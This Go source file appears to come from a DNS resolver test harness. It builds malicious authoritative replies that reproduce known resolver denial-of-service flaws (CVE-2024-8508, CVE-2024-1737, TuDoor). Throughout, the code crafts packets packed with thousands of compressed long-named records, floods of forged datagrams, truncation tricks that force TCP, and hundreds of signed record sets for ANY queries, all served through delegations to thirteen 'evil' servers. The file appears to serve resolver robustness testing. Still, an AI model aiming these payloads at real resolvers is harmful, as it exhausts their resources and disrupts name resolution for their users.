package main

import (
	"encoding/binary"
	"fmt"
	"strings"

	"github.com/miekg/dns"
)

// messages are attacks by replies that are costly to read.
func messages() []attack {
	return []attack{
		{name: "4,000 records with long names", source: "CVE-2024-8508", names: 30, raw: byMany(func(e *exchange) [][]byte { return e.overTCP(e.crowd(64000, dns.TypeNS, 1)) })},
		{name: "the same, in datagrams cut at the end", source: "TuDoor (2024)", names: 30, raw: byMany(func(e *exchange) [][]byte {
			packet := e.crowd(4000, dns.TypeNS, 1)
			return repeated(packet[:len(packet)-1], 300)
		})},
		{name: "500 records with long names, again and again", source: "CVE-2024-8508", names: 30, raw: byMany(func(e *exchange) [][]byte { return e.overTCP(e.crowd(7100, dns.TypeNS, 1)) })},
		{name: "the same, in datagrams", source: "CVE-2024-8508", names: 30, raw: byMany(func(e *exchange) [][]byte { return [][]byte{e.crowd(1200, dns.TypeNS, 1)} })},
		{name: "one set of 4,000 records", source: "CVE-2024-1737", names: 30, raw: byMany(func(e *exchange) [][]byte { return e.overTCP(e.crowd(64000, dns.TypeA, 0)) })},
		{name: "a flood of forged datagrams", source: "TuDoor (2024)", names: 30, raw: byMany(func(e *exchange) [][]byte { return repeated([]byte("of no use at all"), 2000) })},
		{name: "1,000 sets for ANY", source: "CVE-2024-1737", names: 30, raw: byMany(func(e *exchange) [][]byte { return e.overTCP(e.many(900)) })},
	}
}

// byMany has thirteen servers for each name say it, none of which was asked before.
func byMany(say func(*exchange) [][]byte) func(*exchange) [][]byte {
	return func(e *exchange) [][]byte {
		if e.at != evilServer {
			return say(e)
		}
		e.referToMany()
		return e.packed()
	}
}

// referToMany delegates the child to thirteen servers that no other child has.
func (e *exchange) referToMany() {
	e.refer(e.child(), 13, "s%d."+e.child())
	var number int
	_, _ = fmt.Sscanf(e.child(), "n%d", &number) // zero for evil. itself
	for i := range 13 {
		e.additional("s%d.%s A %s", i, e.child(), evilAddress(13*number+i))
	}
}

func repeated(packet []byte, times int) [][]byte {
	var all [][]byte
	for range times {
		all = append(all, packet)
	}
	return all
}

// overTCP sends the packet over TCP and has the question asked there.
func (e *exchange) overTCP(packet []byte) [][]byte {
	if e.stream {
		return [][]byte{packet}
	}
	e.reply.Truncated = true
	return e.packed()
}

// crowd fills a section with the smallest records that there are. Their owners are
// the name asked, or with spread one of 255 octets in 127 labels, reached by pointers.
func (e *exchange) crowd(size int, kind uint16, section int) []byte {
	e.reply.Authoritative = true
	packet, err := e.reply.Pack()
	if err != nil {
		return nil
	}
	owner := uint16(len("header bytes") | 0xc000)
	if kind == dns.TypeNS { // a name of single letters that ends in the question's
		length := 253 - len(e.name)
		owner = uint16(len(packet)+12) | 0xc000
		long := strings.Repeat("\x01a", length/2) + "\xc0\x0c"
		packet = appendRecord(packet, 0xc00c, kind, []byte(long))
		binary.BigEndian.PutUint16(packet[6+2*section:], 1)
	}
	data := []byte{192, 0, 2, 1}
	if kind == dns.TypeNS {
		data = binary.BigEndian.AppendUint16(nil, owner)
	}
	count := int(binary.BigEndian.Uint16(packet[6+2*section:]))
	for len(packet) < size-len(data)-12 {
		if kind == dns.TypeA {
			binary.BigEndian.PutUint16(data[2:], uint16(count))
		}
		packet = appendRecord(packet, owner, kind, data)
		count++
	}
	binary.BigEndian.PutUint16(packet[6+2*section:], uint16(count))
	return packet
}

func appendRecord(packet []byte, owner, kind uint16, data []byte) []byte {
	packet = binary.BigEndian.AppendUint16(packet, owner)
	packet = binary.BigEndian.AppendUint16(packet, kind)
	packet = append(packet, 0, dns.ClassINET, 0, 0, 1, 44)
	packet = binary.BigEndian.AppendUint16(packet, uint16(len(data)))
	return append(packet, data...)
}

// many answers with sets of many types, and signatures over each.
func (e *exchange) many(types int) []byte {
	e.reply.Authoritative = true
	packet, err := e.reply.Pack()
	if err != nil {
		return nil
	}
	const private = 65280 - 10000
	signature := []byte("\x00\x00\x0d\x02\x00\x00\x01\x2c\xff\xff\xff\xff\x00\x00\x00\x00\x12\x34\x04evil\x00signature")
	for i := range types {
		packet = appendRecord(packet, 0xc00c, uint16(private+i), []byte{byte(i)})
		binary.BigEndian.PutUint16(signature, uint16(private+i))
		packet = appendRecord(packet, 0xc00c, dns.TypeRRSIG, signature)
	}
	binary.BigEndian.PutUint16(packet[6:], uint16(2*types))
	return packet
}
